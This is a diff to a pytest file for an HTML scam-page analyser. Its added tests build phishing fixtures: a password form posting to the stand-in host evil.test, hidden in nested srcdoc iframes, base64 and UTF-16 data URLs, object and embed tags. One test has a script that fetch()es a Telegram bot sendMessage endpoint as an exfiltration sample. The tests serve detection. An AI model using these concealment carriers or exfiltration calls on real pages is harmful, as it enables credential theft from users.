@@ -1,5 +1,9 @@
 """What a page asks, and where it sends it, is seen however its author built the form."""
 
+from base64 import b64encode
+from html import escape
+from urllib.parse import quote
+
 import pytest
 
 from scamtriage.parse.html.page import read_page
@@ -171,7 +175,44 @@ def test_the_base_of_a_frame_is_its_own() -> None:
     assert facts.foreign_hosts == ("bank.test",)
 
 
-def test_frames_within_frames_are_not_read_and_many_are_told() -> None:
-    facts, _ = read("<iframe srcdoc='<iframe srcdoc=&quot;<p>deep</p>&quot;></iframe><p>one</p>'></iframe>")
-    assert facts.text == "one"
-    assert "frames within 20" in read("<iframe srcdoc='<p>x'></iframe>" * 21)[1]
+def quoted(html: str, how: str = "<iframe srcdoc='{}'></iframe>") -> str:
+    return how.format(html.replace("&", "&amp;").replace("'", "&#39;"))
+
+
+WITHIN = f"<p>Sign in</p><form action=//evil.test/s>{PASSWORD}</form><p>LINE ID: @helper99x</p>"
+ENCODED = b64encode(WITHIN.encode()).decode()
+CARRIERS = {
+    "srcdoc in srcdoc": quoted(quoted(quoted(WITHIN))),
+    "plain": quoted(f"data:text/html,{WITHIN}", "<iframe src='{}'></iframe>"),
+    "escaped": f"<iframe src='data:text/html;charset=utf-8,{quote(WITHIN)}'></iframe>",
+    "base64": f"<iframe src=' data:text/html;base64,{ENCODED[:9]} {ENCODED[9:]}'></iframe>",
+    "utf-16": f"<iframe src='data:text/html;charset=utf-16le;base64,{b64encode(WITHIN.encode('utf-16-le')).decode()}'></iframe>",
+    "xhtml": f"<iframe src='DATA:application/xhtml+xml;base64,{ENCODED}#x'></iframe>",
+    "object": f"<object data='data:text/html;base64,{ENCODED}'></object>",
+    "embed": f"<embed src='data:text/html;base64,{ENCODED}'>",
+    "among decoys": "".join(quoted(f"<p>{n}") for n in range(30)) + quoted(WITHIN),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("flood", ["", STREAM], ids=["tree", "tokens"])
+def test_a_document_that_a_page_carries_anywhere_is_part_of_it(flood: str) -> None:
+    for how, carrier in CARRIERS.items():
+        facts, _ = read(f"<p>outside</p>{carrier}{flood}")
+        assert (facts.asks, senders(facts)) == (("password",), {"evil.test"}), how
+        assert ("line", "@helper99x") in {(contact.kind, contact.value) for contact in facts.contacts}, how
+        assert not facts.iframes and facts.structural_caps == (), how
+
+
+def test_what_a_frame_hides_in_its_code_is_found_as_on_the_page_itself() -> None:
+    bot = f"<script>fetch('https://api.telegram.org/bot1234567:{'A' * 35}/sendMessage')</script>"
+    inner = f"<b onclick=\"location='https://wa.me/66819234567'\">x</b>{bot}"
+    facts, _ = read(f"<iframe src='data:text/html;base64,{b64encode(inner.encode()).decode()}'></iframe>")
+    assert facts.exfil and [contact.kind for contact in facts.contacts] == ["whatsapp"]
+
+
+def test_frames_that_are_not_read_are_told_and_so_deep_no_honest_page_goes() -> None:
+    facts, caps = read("".join(quoted(f"<p>{number}") for number in range(21)))
+    assert "frames within 20" in caps and not facts.complete and facts.structural_caps == ()
+    facts, caps = read("".join(quoted(quoted(quoted(f"<p>{number}"))) for number in range(9)))
+    assert "frames within 20" in caps and not facts.complete and facts.structural_caps == ("frames",)
+    assert read(f"<iframe hidden srcdoc='{escape(quoted('<p>inside'))}'></iframe>")[0].text == ""
